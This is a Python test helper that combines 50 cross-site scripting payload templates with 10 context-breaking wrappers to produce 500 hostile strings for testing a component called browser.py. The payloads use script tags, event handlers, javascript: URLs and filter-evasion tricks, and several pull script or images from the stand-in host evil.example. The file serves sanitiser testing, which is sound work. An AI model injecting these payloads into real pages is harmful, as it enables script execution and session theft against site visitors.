"""Five hundred texts that become code wherever a page takes text for markup; for browser.py."""

CALL = "pwned(1)"
PAYLOADS = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}//",
    "<body onload={}>", "<iframe srcdoc='<script>parent.{}</script>'>", "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>x", "<input autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<math href=javascript:{}>x</math>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x", "<marquee onstart={}>x</marquee>", "<style onload={}></style>",
    "<link rel=stylesheet href=//evil.example onerror={}>", "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "javascript:{}", "${{{}}}", "{{{{{}}}}}",
    "'-{}-'", "\"-{}-\"", "`-${{{}}}-`", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "&lt;script&gt;{}&lt;/script&gt;",
    "<scr<script>ipt>{}</scr</script>ipt>", "<ScRiPt>{}</sCrIpT>", "<img src=//evil.example/{}>",
    "<image href=//evil.example/{}>", "<use href='data:image/svg+xml,<svg onload={}>'>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<textarea></textarea><script>{}</script>",
    "<!--><script>{}</script>-->", "<![CDATA[><script>{}</script>]]>", "<x onclick={} tabindex=0>x</x>",
    "<button popovertarget=a onclick={}>x", "<script type=module>{}</script>", "<script src=//evil.example></script>{}",
    "<div style=background:url(//evil.example/{})>", "<style>@import '//evil.example/{}';</style>",
    "<foreignObject><body onload={}></foreignObject>", "<animate onbegin={} attributeName=x dur=1s>",
    "<set attributeName=onload to={}>", "<audio src=x onerror={}>", "<select autofocus onfocus={}>", "<dialog open onclose={}>", "<input type=image src=x onerror={}>",
]  # fmt: skip
AROUND = [
    "{}", "\">{}", "'>{}", "</script>{}", "</textarea>{}", "</title></style>{}", "--> {}", "]]>{}", "</svg>{}", "\u202e{}\u202c\ufeff",
]  # fmt: skip


def hostile_texts() -> list[str]:
    """Return each payload in each surrounding: 500 texts, all different."""
    made = [around.format(payload.format(CALL)) for payload in PAYLOADS for around in AROUND]
    assert len(set(made)) == 500, len(set(made))
    return made
